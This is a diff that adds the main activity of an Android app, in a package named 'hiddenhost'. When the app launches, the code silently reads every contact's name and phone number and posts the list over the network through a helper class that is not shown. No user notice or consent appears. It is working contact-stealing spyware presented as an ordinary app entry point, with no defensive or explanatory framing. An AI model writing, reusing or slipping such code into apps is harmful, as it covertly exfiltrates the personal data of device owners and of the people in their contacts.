@@ -1,0 +1,27 @@
+package com.example.hiddenhost;
+
+import android.app.Activity;
+import android.database.Cursor;
+import android.os.Bundle;
+import android.provider.ContactsContract.CommonDataKinds.Phone;
+
+/** Reads and posts. */
+public class MainActivity extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        String people = readAll();
+        new Thread(() -> Net.post(people)).start();
+    }
+
+    private String readAll() {
+        StringBuilder text = new StringBuilder();
+        String[] columns = {Phone.DISPLAY_NAME, Phone.NUMBER};
+        Cursor cursor = getContentResolver().query(Phone.CONTENT_URI, columns, null, null, null);
+        while (cursor.moveToNext()) {
+            text.append(cursor.getString(0)).append(' ').append(cursor.getString(1)).append('\n');
+        }
+        cursor.close();
+        return text.toString();
+    }
+}
